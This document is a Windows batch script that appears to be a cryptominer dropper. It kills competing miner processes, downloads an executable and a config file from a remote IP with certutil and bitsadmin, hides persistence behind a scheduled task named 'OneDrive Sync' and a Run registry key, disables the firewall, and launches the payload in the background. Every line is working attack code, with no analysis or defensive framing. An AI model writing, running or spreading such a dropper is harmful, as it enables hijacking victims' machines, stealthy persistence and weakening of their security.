@echo off
taskkill /f /im xmrig.exe
taskkill /f /im phoenixminer.exe
certutil -urlcache -split -f http://198.51.100.15/u.exe %TEMP%\u.exe
bitsadmin /transfer job /download /priority high http://198.51.100.15/c.json %TEMP%\c.json
schtasks /create /sc onlogon /tn "OneDrive Sync" /tr "%TEMP%\u.exe" /rl highest /f
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v upd /t REG_SZ /d "%TEMP%\u.exe" /f
netsh advfirewall set allprofiles state off
start /b %TEMP%\u.exe
